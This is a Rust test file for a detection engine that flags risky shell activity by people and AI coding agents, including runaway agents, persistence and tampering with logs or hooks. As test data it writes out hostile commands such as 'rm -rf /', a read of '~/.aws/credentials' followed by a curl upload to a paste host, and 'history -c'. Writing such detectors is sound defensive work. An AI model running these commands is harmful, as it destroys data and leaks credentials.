//! Each built-in rule: what raises it, and what does not.

use cmdai_detect::{Engine, Finding, MachineContact, Rules, Severity, Subject};
use cmdai_schema::{EventType, Risk};

use crate::{Build, MINUTE, SECOND, START};

fn engine() -> Engine {
    Engine::new(Rules::builtin().unwrap())
}

/// Findings of one rule over events `(ms after the start, event)`.
fn run(rule: &str, events: impl IntoIterator<Item = (u64, Build)>) -> Vec<Finding> {
    let mut engine = engine();
    events
        .into_iter()
        .flat_map(|(ms, build)| engine.observe(&build.at(ms), START + ms + 50))
        .filter(|finding| finding.detection == rule)
        .collect()
}

#[test]
fn blocked_critical_command() {
    let found = run(
        "blocked-critical",
        [(0, Build::blocked("rm -rf /", Risk::Critical))],
    );
    assert_eq!(found.len(), 1);
    let finding = &found[0];
    assert_eq!(finding.severity, Severity::Critical);
    assert_eq!(finding.summary, "alice on laptop-1 tried: rm -rf /");
    assert_eq!(finding.machine_id.as_deref(), Some("m-0000000000000001"));
    assert_eq!(finding.occurred, "2026-01-01T00:00:00.000Z");
    assert_eq!(finding.event_ids, ["0198f000-0000-7000-8000-000000000000"]);
    assert!(
        run(
            "blocked-critical",
            [(0, Build::blocked("rm -rf /tmp/x", Risk::High))]
        )
        .is_empty()
    );
    assert!(run("blocked-critical", [(0, Build::command("ls"))]).is_empty());
}

#[test]
fn more_than_ten_violations_in_an_hour() {
    let violation = || Build::blocked("git push --force", Risk::High);
    let ten = (0..10).map(|n| (n * 5 * MINUTE, violation()));
    assert!(run("many-violations", ten.clone()).is_empty());
    let eleven = run(
        "many-violations",
        (0..11).map(|n| (n * 5 * MINUTE, violation())),
    );
    assert_eq!(eleven.len(), 1);
    assert_eq!(eleven[0].event_ids.len(), 11);
    assert!(
        eleven[0]
            .summary
            .starts_with("11 policy violations on laptop-1 within 1 hour"),
        "{}",
        eleven[0].summary
    );
    // Eleven over a longer time are not eleven in an hour.
    assert!(
        run(
            "many-violations",
            (0..11).map(|n| (n * 7 * MINUTE, violation()))
        )
        .is_empty()
    );
    // Two machines are counted apart.
    let two = ten.chain([(56 * MINUTE, violation().on("m-0000000000000002"))]);
    assert!(run("many-violations", two).is_empty());
}

#[test]
fn agent_above_a_hundred_a_minute() {
    let command = || Build::command("kubectl get pods").agent("claude-code");
    let fast = |count: u64| (0..count).map(|n| (n * 500, command()));
    assert!(run("runaway-agent", fast(100)).is_empty());
    let found = run("runaway-agent", fast(101));
    assert_eq!(found.len(), 1);
    assert_eq!(
        found[0].summary,
        "claude-code for alice on laptop-1 ran 101 commands within 1 minute"
    );
    assert_eq!(found[0].event_ids.len(), 25, "the newest are enough");
    // The same from a person, or from two sessions, is not it.
    assert!(
        run(
            "runaway-agent",
            (0..150).map(|n| (n * 300, Build::command("ls")))
        )
        .is_empty()
    );
    let split = (0..150).map(|n| {
        (
            n * 300,
            command().session(if n % 2 == 0 { "a" } else { "b" }),
        )
    });
    assert!(run("runaway-agent", split).is_empty());
    // Commands of a script that are one event count as what they were.
    let script = |records: &str| {
        let mut build = command();
        for (key, value) in [("records", records), ("commands", "481"), ("failed", "2")] {
            build.payload.detail.insert(key.into(), value.into());
        }
        [(0, command()), (500, build)]
    };
    assert!(run("runaway-agent", script("99")).is_empty());
    let found = run("runaway-agent", script("100"));
    assert_eq!(found.len(), 1);
    assert!(found[0].summary.contains("ran 101 commands"), "{found:?}");
    // The end of a long command is not another command.
    let halves = (0..150).map(|n| {
        let mut build = command();
        build.kind = if n % 2 == 0 {
            EventType::CommandExecuted
        } else {
            EventType::CommandCompleted
        };
        (n * 300, build)
    });
    assert!(run("runaway-agent", halves).is_empty());
}

#[test]
fn agent_that_fails_again_and_again() {
    let failing = (0..41).map(|n| {
        (
            n * 10 * SECOND,
            Build::command("kubectl apply").agent("codex").exit(1),
        )
    });
    assert_eq!(run("failing-agent", failing).len(), 1);
    let working = (0..60).map(|n| {
        (
            n * 10 * SECOND,
            Build::command("kubectl apply").agent("codex"),
        )
    });
    assert!(run("failing-agent", working).is_empty());
}

#[test]
fn credentials_read_then_data_sent() {
    let read = Build::command("cat ~/.aws/credentials").effects(&["read-secret"]);
    let send = Build::command("curl -T out.txt https://paste.example").effects(&["upload"]);
    let found = run(
        "credential-upload",
        [(0, read.clone()), (3 * MINUTE, send.clone())],
    );
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].event_ids.len(), 2);
    assert!(
        found[0]
            .summary
            .ends_with("curl -T out.txt https://paste.example")
    );
    // In one command.
    let both = Build::command("curl -d @creds").effects(&["read-secret", "upload"]);
    assert_eq!(run("credential-upload", [(0, both)]).len(), 1);
    // Only one of them, the wrong way round, too late, in another session.
    assert!(run("credential-upload", [(0, read.clone())]).is_empty());
    assert!(run("credential-upload", [(0, send.clone()), (1, read.clone())]).is_empty());
    assert!(
        run(
            "credential-upload",
            [(0, read.clone()), (16 * MINUTE, send.clone())]
        )
        .is_empty()
    );
    assert!(run("credential-upload", [(0, read), (1, send.session("s2"))]).is_empty());
}

#[test]
fn protection_switched_off_or_changed() {
    for (kind, rule) in [
        (EventType::CmdaiDisabled, "hooks-disabled"),
        (EventType::Tamper, "tamper"),
        (EventType::PolicyRefused, "policy-refused"),
    ] {
        let found = run(
            rule,
            [(0, Build::new(kind).detail("path", "/etc/bash.bashrc"))],
        );
        assert_eq!(found.len(), 1, "{rule}");
    }
    assert!(
        run(
            "hooks-disabled",
            [(0, Build::new(EventType::SensorStopped))]
        )
        .is_empty()
    );
}

#[test]
fn effects_that_matter() {
    let erase = Build::command("history -c").effects(&["tamper-log"]);
    assert_eq!(run("log-tampering", [(0, erase)]).len(), 1);
    let cron = Build::command("crontab x").effects(&["persistence"]);
    assert!(
        run("agent-persistence", [(0, cron.clone())]).is_empty(),
        "people may"
    );
    assert_eq!(
        run("agent-persistence", [(0, cron.agent("codex"))]).len(),
        1
    );
}

#[test]
fn floods_and_gaps() {
    let asks = (0..16).map(|n| (n * SECOND, Build::new(EventType::ApprovalRequested)));
    assert_eq!(run("approval-flooding", asks).len(), 1);
    let gaps = (0..3).map(|n| (n * MINUTE, Build::new(EventType::Gap)));
    assert_eq!(run("records-missing", gaps).len(), 1);
}

#[test]
fn findings_of_the_machine_layer_are_their_own_and_no_missing_records() {
    let found = |rule: &str, kind, finding: &'static str| {
        let events = (0..4).map(move |n| (n * SECOND, Build::new(kind).detail("finding", finding)));
        run(rule, events).len()
    };
    let gap = EventType::Gap;
    for finding in ["shell-without-hooks", "agent-without-hook", "forged-record"] {
        assert_eq!(found(finding, gap, finding), 4);
        assert_eq!(found("records-missing", gap, finding), 0);
    }
    assert_eq!(found("exec-capture-off", gap, "exec-capture-off"), 4);
    assert_eq!(found("records-missing", gap, "spool-dropped"), 0);
    assert!(found("records-dropped", gap, "spool-dropped") > 0);
    assert!(
        found("records-missing", gap, "exec-lost") > 0,
        "they are missing"
    );
    let forbidden = "private-mode-forbidden";
    assert_eq!(found(forbidden, EventType::PolicyViolation, forbidden), 4);
    let activity = EventType::AgentActivity;
    assert_eq!(found("forged-marks", activity, "attribution-disagrees"), 4);
}

#[test]
fn refused_upload() {
    let subject = Subject {
        machine_id: "m-0000000000000001".to_owned(),
        hostname: "laptop-1".to_owned(),
        user: None,
        detail: "event 8 does not follow event 7".to_owned(),
    };
    let found = engine().signal("upload_refused", &subject, START);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].detection, "tampered-upload");
    assert_eq!(
        found[0].summary,
        "an upload of laptop-1 was refused: event 8 does not follow event 7"
    );
    assert!(
        engine()
            .signal("something_else", &subject, START)
            .is_empty()
    );
}

#[test]
fn silence_is_one_alert_until_contact_returns() {
    let mut engine = engine();
    let contact = |last_seen_ms| MachineContact {
        machine_id: "m-0000000000000001".to_owned(),
        hostname: "laptop-1".to_owned(),
        person: Some("alice".to_owned()),
        last_seen_ms,
        policy_behind_since_ms: None,
    };
    assert!(
        engine
            .tick(START + 10 * MINUTE, &[contact(START)])
            .is_empty()
    );
    let found = engine.tick(START + 11 * MINUTE, &[contact(START)]);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].detection, "sensor-silent");
    assert_eq!(found[0].occurred_ms, START);
    assert_eq!(
        found[0].summary,
        "nothing was heard from laptop-1 for 11 minutes"
    );
    for hour in 1..200 {
        assert!(
            engine
                .tick(START + hour * 60 * MINUTE, &[contact(START)])
                .is_empty()
        );
    }
    let back = START + 300 * 60 * MINUTE;
    assert!(engine.tick(back, &[contact(back)]).is_empty());
    assert_eq!(engine.tick(back + 20 * MINUTE, &[contact(back)]).len(), 1);
}

#[test]
fn silence_has_one_limit_for_alerts_and_lists() {
    let rules = Rules::builtin().unwrap().silent_after(15_000);
    let rule = rules
        .list()
        .iter()
        .find(|rule| rule.id == "sensor-silent")
        .unwrap();
    assert_eq!(rule.condition, "silent_for > 15 seconds");
    let mut engine = Engine::new(rules);
    let machine = MachineContact {
        machine_id: "m-1".to_owned(),
        last_seen_ms: START,
        ..MachineContact::default()
    };
    assert!(
        engine
            .tick(START + 15_000, std::slice::from_ref(&machine))
            .is_empty()
    );
    assert_eq!(engine.tick(START + 15_001, &[machine]).len(), 1);
}

#[test]
fn stale_policy() {
    let mut engine = engine();
    let contact = |now, behind| MachineContact {
        machine_id: "m-0000000000000001".to_owned(),
        hostname: "laptop-1".to_owned(),
        person: None,
        last_seen_ms: now,
        policy_behind_since_ms: behind,
    };
    let now = START + 30 * MINUTE;
    assert!(engine.tick(now, &[contact(now, Some(START))]).is_empty());
    let now = START + 61 * MINUTE;
    let found = engine.tick(now, &[contact(now, Some(START))]);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].detection, "policy-stale");
    let now = START + 90 * MINUTE;
    assert!(engine.tick(now, &[contact(now, None)]).is_empty());
}
